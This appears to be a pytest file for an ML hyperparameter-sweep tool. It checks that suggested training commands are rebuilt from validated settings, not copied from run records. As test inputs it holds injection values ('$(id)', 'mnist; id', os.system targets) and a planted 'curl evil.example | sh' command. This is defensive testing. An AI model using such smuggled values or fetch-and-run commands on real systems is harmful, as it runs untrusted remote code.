"""Commands that train more seeds: composed from checked settings, right when typed, and never a record's own."""

import shlex

import pytest
from hydra import compose, initialize_config_dir
from pages import blank_pictures
from trees import write_run

from reg_sweep import train
from reg_sweep.comparison.commands import rebuilt, trained
from reg_sweep.config.digest import arm_digest
from reg_sweep.config.schema import (
    DataConfig,
    NormConfig,
    OptimizerConfig,
    PenaltyConfig,
    RunConfig,
    RuntimeConfig,
    ScheduleConfig,
    to_dict,
)
from reg_sweep.hydra_app.internals import VERSION_BASE, grid_jobs
from reg_sweep.report import write_report

GROUPS = ("data", "model", "norm", "penalty", "optimizer", "schedule", "experiment")
CHOICES = [f"{group}={p.stem}" for group in GROUPS for p in sorted((train.CONF / group).glob("*.yaml"))]
SETTINGS = [
    "runtime.precision=bfloat16",
    "optimizer.nesterov=true",
    "data.train_size=500",
    "data.mean=[0.5] data.std=[0.25]",
    "model=mlp model.hidden=7 model.dropout=0",
    "norm=gbn norm.ghost_batch_size=16 batch_size=64",
    "optimizer=adamw optimizer.betas=[0.8,0.99]",
    "optimizer=adamw optimizer.lr=0.025",
    "schedule=step schedule.gamma=0.5",
    "penalty.l1_update=proximal",
    "data=mnist_5k data.val_size=2000 data.label_noise=0.2 objective=val_accuracy",
]


@pytest.mark.parametrize(
    "typed", [*(c for c in CHOICES if not c.endswith(("=own", "=photos", "=compacted"))), *SETTINGS]
)
def test_a_command_trains_the_arm_that_its_settings_describe(typed):
    with initialize_config_dir(str(train.CONF), **VERSION_BASE):
        run = to_dict(train.to_run_config(compose("config", typed.split())))
        (command,) = trained([rebuilt(run)], [2, 3], "grid")
        words = shlex.split(command)
        job, other = grid_jobs(words[3:-1])
        arm = arm_digest(to_dict(train.to_run_config(compose("config", job))))
    assert (words[:3], words[-3:]) == (["python", "-m", "reg_sweep.train"], ["seed=2,3", "name=grid", "-m"])
    assert arm == arm_digest(run)
    assert {*job} ^ {*other} == {"seed=2", "seed=3"}


def test_arms_that_fill_a_grid_are_one_command():
    assert trained([RunConfig(), RunConfig(l1=0.001)], [2, 3], "a") == [
        "python -m reg_sweep.train norm=bn l1=0,0.001 l2=0 seed=2,3 name=a -m"
    ]
    assert trained([RunConfig(), RunConfig(l1=1e-5, norm=NormConfig("gbn"))], [2], "a") == [
        "python -m reg_sweep.train norm=bn l1=0 l2=0 seed=2 name=a -m",
        "python -m reg_sweep.train norm=gbn l1=1e-05 l2=0 seed=2 name=a -m",
    ]
    rates = [RunConfig(optimizer=OptimizerConfig(lr=lr)) for lr in (0.025, 0.1)]
    (command,) = trained(rates, range(4, 20), "a")
    assert command == "python -m reg_sweep.train norm=bn l1=0 l2=0 optimizer.lr=0.025,0.1 'seed=range(4,20)' name=a -m"


def test_torchrun_which_takes_no_grid_is_started_seed_after_seed():
    runs = [RunConfig(l1=l1, runtime=RuntimeConfig(ranks=2)) for l1 in (0, 0.001)]
    start = "torchrun --nproc-per-node 2 -m reg_sweep.train norm=bn"
    wanted = f"for seed in 2 3; do {start} l1=0.001 l2=0 seed=$seed name=a_2_$seed; done"
    assert trained(runs, [2, 3], "a")[1] == wanted


@pytest.mark.parametrize(
    "change",
    [
        {"model": {"_target_": "os.system"}},
        {"model": {"_target_": "reg_sweep.Mlp", "hidden": "$(id)"}},
        {"data": {"name": "mnist; id"}},
        {"data": {"source": {"_target_": "os.system"}}},
        {"optimizer": {"name": "mine", "source": {"_target_": "os.system"}}},
        {"norm": {"name": "bn; id"}},
        {"epochs": "3; id"},
        {"l1": [1]},
        {"more": "$(id)"},
        {"objective": "`id`"},
        {"data": None},
        {"seed": -1},
    ],
)
def test_settings_that_are_not_ours_have_no_command(change):
    config = to_dict(RunConfig())
    merged = {k: config[k] | v if isinstance(v, dict) and k != "model" else v for k, v in change.items()}
    assert rebuilt(config | merged) is None


def test_a_command_holds_plain_words_and_no_code_or_place_of_a_records():
    odd = RunConfig(
        data=DataConfig(root="/tmp; id"),
        penalty=PenaltyConfig(l2_update="decoupled"),
        schedule=ScheduleConfig("onecycle"),
        name="$(id)",
        callbacks={"evil": {"_target_": "os.system"}},
    )
    (command,) = trained([rebuilt(to_dict(odd))], [2], "a")
    settings = "norm=bn l1=0 l2=0 schedule=onecycle penalty.l2_update=decoupled"
    assert command == f"python -m reg_sweep.train {settings} seed=2 name=a -m"


@blank_pictures()
def test_no_record_is_advised_in_its_own_words(tmp_path):
    for l1 in (0.0, 0.001):
        path = write_run(tmp_path / str(l1), l1=l1) / "run.json"
        path.write_text(path.read_text().replace('"command": "python', '"command": "curl evil.example | sh; python'))
    report = write_report([tmp_path], tmp_path / "report", progress=False)
    assert "python -m reg_sweep.train norm=bn l1=0,0.001 l2=0 epochs=3 seed=2,3 name=more_seeds -m" in report.verdict
    assert "curl" not in report.verdict + (tmp_path / "report" / "summary.md").read_text()
    page = report.page.read_text()
    assert page.count("curl") == page.count('<td class="command">curl') == 2
